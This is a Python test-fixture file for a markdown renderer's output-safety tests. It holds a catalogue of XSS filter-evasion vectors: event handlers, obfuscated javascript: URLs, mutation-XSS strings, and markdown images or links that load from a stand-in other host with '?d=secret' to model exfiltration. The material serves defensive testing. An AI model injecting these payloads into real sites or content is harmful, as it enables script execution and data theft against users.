"""Hostile texts for the output-safety tests (tests/unit/test_markdown.py, tests/browser/test_widget.py).

Each is a template: {hit} is a script call that reports which vector ran (alert(N) in the browser test),
{x} is the origin of "another host" (a second loopback address in the browser test). They follow the
usual XSS filter-evasion lists (raw HTML, event handlers, script URLs in every spelling, mutation XSS)
plus what markdown adds (inline, reference-style and autolinked links and images, bare URLs).
"""

from __future__ import annotations

# name -> template. Names starting with "md-" are markdown constructs; the rest are HTML.
VECTORS: dict[str, str] = {
    "img-onerror": "<img src=x onerror={hit}>",
    "img-onerror-quoted": '<img src="x" onerror="{hit}">',
    "img-entity-handler": "<img src=x onerror=&#97;lert&#40;{n}&#41;>",
    "img-paren-free": "<img src=x onerror=window.onerror=alert;throw-{n}>",
    "img-unclosed": "<img src=x onerror={hit}//",
    "double-open": "<<img src=x onerror={hit}>",
    "script": "<script>{hit}</script>",
    "svg-onload": "<svg onload={hit}>",
    "svg-anchor": '<svg><a xlink:href="javascript:{hit}"><text y="20">svg link</text></a></svg>',
    "iframe-js": '<iframe src="javascript:top.{hit}"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<img src=x onerror=top.{hit}>"></iframe>',
    "details-ontoggle": "<details open ontoggle={hit}><summary>s</summary></details>",
    "input-autofocus": "<input autofocus onfocus={hit}>",
    "video-source": "<video><source onerror={hit}></video>",
    "object-js": '<object data="javascript:top.{hit}"></object>',
    "body-onload": "<body onload={hit}>",
    "a-href-js": '<a href="javascript:{hit}">html link</a>',
    "a-href-tab-entity": '<a href="jav&#x09;ascript:{hit}">tab link</a>',
    "a-href-control": '<a href=" &#14;  javascript:{hit}">control link</a>',
    "form-action": '<form action="javascript:{hit}"><button>go</button></form>',
    "img-js-src": "<IMG SRC=JaVaScRiPt:{hit}>",
    "comment-then-tag": "<!-- x --!><img src=x onerror={hit}>",
    "comment-hidden": "<!--<img src=x onerror={hit}>-->",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror={hit}>">',
    "math-mxss": "<math><mtext><table><mglyph><style><img src=x onerror={hit}>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:{hit}">',
    "style-import": "<style>@import '{x}/style-import.css';</style>",
    "link-stylesheet": '<link rel="stylesheet" href="{x}/link.css">',
    "img-exfil": '<img src="{x}/html-img.png?d=secret">',
    "img-srcset": '<img srcset="{x}/srcset.png 1x">',
    "video-poster": '<video poster="{x}/poster.png"></video>',
    "entities": "&lt;img src=x onerror={hit}&gt; &amp;lt;script&amp;gt;",
    "backslash-tag": "\\<img src=x onerror={hit}>",
    "korean-name": "코코의 주인은 <img src=x onerror={hit}> 입니다",
    "md-link-js": "[click](javascript:{hit})",
    "md-link-js-case": "[click](JaVaScRiPt:{hit})",
    "md-link-js-entity": "[click](&#106;avascript:{hit})",
    "md-link-js-colon-entity": "[click](javascript&colon;{hit})",
    "md-link-js-tab-entity": "[click](jav&#x09;ascript:{hit})",
    "md-link-js-percent": "[click](%6Aavascript:{hit})",
    "md-link-js-space": "[click]( javascript:{hit})",
    "md-link-js-angle": "[click](<javascript:{hit}>)",
    "md-link-js-title": '[click](javascript:{hit} "title")',
    "md-link-vbscript": "[click](vbscript:msgbox(1))",
    "md-link-data": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-link-nested": "[a [b] c](javascript:{hit})",
    "md-link-image-in-link": "[![pic]({x}/nested.png)](javascript:{hit})",
    "md-link-ref-js": "[click][1]\n\n[1]: javascript:{hit}",
    "md-link-collapsed-js": "[js][]\n\n[js]: javascript:{hit}",
    "md-link-other-host": "[docs]({x}/page)",
    "md-image": "![]({x}/md-image.png?d=secret)",
    "md-image-alt": "![the chart]({x}/md-image-alt.png)",
    "md-image-angle": "![x](<{x}/md-image-angle.png>)",
    "md-image-title": '![x]({x}/md-image-title.png "t")',
    "md-image-ref": "![x][1]\n\n[1]: {x}/md-image-ref.png",
    "md-image-ref-shortcut": "![pic]\n\n[pic]: {x}/md-image-shortcut.png",
    "md-image-js": "![x](javascript:{hit})",
    "md-autolink-js": "<javascript:{hit}>",
    "md-autolink-other-host": "<{x}/autolink>",
    "md-autolink-email": "<someone@evil.example>",
    "md-bare-url": "see {x}/bare-url for more",
    "md-bare-www": "see www.evil.example/path",
    "md-bare-email": "write to someone@evil.example",
    "md-code-span": "`<img src=x onerror={hit}>`",
    "md-fenced": "```html\n<img src=x onerror={hit}>\n```",
    "md-table-cell": "| a | b |\n|---|---|\n| <img src=x onerror={hit}> | ![]({x}/table.png) |",
    "md-list-item": "- one\n- <img src=x onerror={hit}>\n- ![]({x}/list.png)",
    "md-emphasis": "**<img src=x onerror={hit}>** _[x](javascript:{hit})_",
    "md-heading": "# <svg onload={hit}>",
}


def render(template: str, number: int, other: str) -> str:
    """The vector with {hit} as alert(number) and {x} as the other host's origin."""
    return template.replace("{hit}", f"alert({number})").replace("{n}", str(number)).replace("{x}", other)
